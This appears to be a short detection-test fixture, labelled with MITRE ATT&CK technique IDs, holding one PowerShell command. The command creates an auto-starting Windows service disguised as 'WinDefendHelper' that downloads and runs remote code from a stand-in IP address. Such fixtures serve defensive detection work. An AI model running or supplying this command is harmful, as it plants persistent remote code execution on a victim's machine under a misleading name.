# expect: T1543.003 T1059.003
New-Service -Name 'WinDefendHelper' -BinaryPathName 'cmd.exe /c powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.77/svc'')"' -StartupType Automatic
